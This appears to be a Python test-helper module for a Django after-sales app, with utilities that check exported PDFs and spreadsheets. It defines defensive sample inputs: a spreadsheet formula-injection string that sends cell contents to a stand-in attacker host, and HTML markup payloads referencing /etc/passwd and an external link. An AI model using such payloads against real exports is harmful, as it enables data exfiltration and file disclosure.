"""Small helpers for tests. No test may depend on the real date: dates that must lie ahead
of "today" are computed from it (``AFTERSALES_TEST_TODAY`` may move today)."""

from __future__ import annotations

from datetime import date, timedelta

from django.utils import timezone


def soon(days: int = 10) -> date:
    """A day ``days`` ahead of today in China, e.g. an order's promised delivery date."""
    return timezone.localdate() + timedelta(days=days)


# Text people may type into any field (a name, an address, a note). Excel must show it as
# text, never run it as a formula; a PDF must print it as typed: no image, no link, no error.
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MARKUP_TEXTS = ('<img src="/etc/passwd"/>', '<a href="http://evil.example">x</a>', "A<B", "R&D")


def pdf_objects(data: bytes) -> bytes:
    """The PDF's bytes with every compressed stream inflated: a PDF keeps its dictionaries
    (``/Annots``, ``/Subtype /Image``) in compressed object streams too."""
    import re
    import zlib

    parts = [data]
    for match in re.finditer(rb"stream\r?\n", data):
        start = match.end()
        end = data.find(b"endstream", start)
        if end == -1:
            continue
        try:
            parts.append(zlib.decompressobj().decompress(data[start:end]))
        except zlib.error:
            continue
    return b"\n".join(parts)


def pdf_text(data: bytes, *, layout: bool = False) -> str:
    """What ``pdftotext`` reads from the PDF (skips the test without poppler-utils)."""
    import shutil
    import subprocess

    import pytest

    assert data.startswith(b"%PDF")
    if not shutil.which("pdftotext"):
        pytest.skip("pdftotext (poppler-utils) is not installed")
    args = ["pdftotext", *(["-layout"] if layout else []), "-", "-"]
    return subprocess.run(args, input=data, capture_output=True, check=True).stdout.decode()


def pdf_fonts(data: bytes) -> list[dict[str, str]]:
    """The fonts ``pdffonts`` lists: name, type and whether each is embedded."""
    import shutil
    import subprocess
    import tempfile

    import pytest

    if not shutil.which("pdffonts"):
        pytest.skip("pdffonts (poppler-utils) is not installed")
    with tempfile.NamedTemporaryFile(suffix=".pdf") as handle:
        handle.write(data)
        handle.flush()
        out = subprocess.run(
            ["pdffonts", handle.name], capture_output=True, check=True
        ).stdout.decode()
    rows = []
    for line in out.splitlines()[2:]:
        fields = line.split()
        # name · type words · encoding · emb · sub · uni · object id · generation
        if len(fields) >= 7:
            rows.append({"name": fields[0], "emb": fields[-5], "type": " ".join(fields[1:-6])})
    return rows


def assert_pdf_prints_as_typed(data: bytes, *texts: str) -> None:
    """``data`` is a PDF with no link or image in it, and every one of ``texts`` is in it
    literally (read back with pdftotext; whitespace is ignored, as table cells wrap)."""
    assert data.startswith(b"%PDF")
    objects = pdf_objects(data)
    for marker in (b"/Annots", b"/URI", b"/Subtype /Image", b"/Subtype/Image", b"/Launch"):
        assert marker not in objects, marker
    printed = "".join(pdf_text(data).split())
    for text in texts:
        assert "".join(text.split()) in printed, text


def assert_pdf_reads_well(data: bytes, *texts: str, letterhead: str = "") -> str:
    """A printout as people read it: every font embedded, at least one of them a CJK font
    (so every Chinese glyph prints the same on every machine), the letterhead's company name
    on it, and each of ``texts`` on one line, unbroken (a number, a name, a date). Returns
    the text (pdftotext, without ``-layout``)."""
    fonts = pdf_fonts(data)
    assert fonts, "no font in the PDF"
    assert all(f["emb"] == "yes" for f in fonts), fonts
    assert any("CJK" in f["name"] for f in fonts), fonts
    text = pdf_text(data)
    lines = text.splitlines()
    for expected in (letterhead, *texts):
        if expected:
            assert any(expected in line for line in lines), f"{expected!r} is broken or missing"
    return text


class no_missing_glyphs:  # used as ``with no_missing_glyphs():``
    """Fails when a PDF printed inside the block drew a character no installed font has
    (WeasyPrint draws an empty box then; ``core.pdf.render_pdf`` reports it)."""

    def __enter__(self):
        import logging

        class Collect(logging.Handler):
            def __init__(self):
                super().__init__(logging.ERROR)
                self.found: list[str] = []

            def emit(self, record):
                self.found.append(record.getMessage())

        self.handler = Collect()
        self.logger = logging.getLogger("aftersales.core.pdf")
        self.logger.addHandler(self.handler)
        return self

    def __exit__(self, *exc):
        self.logger.removeHandler(self.handler)
        if exc[0] is None:
            assert not self.handler.found, self.handler.found
        return False
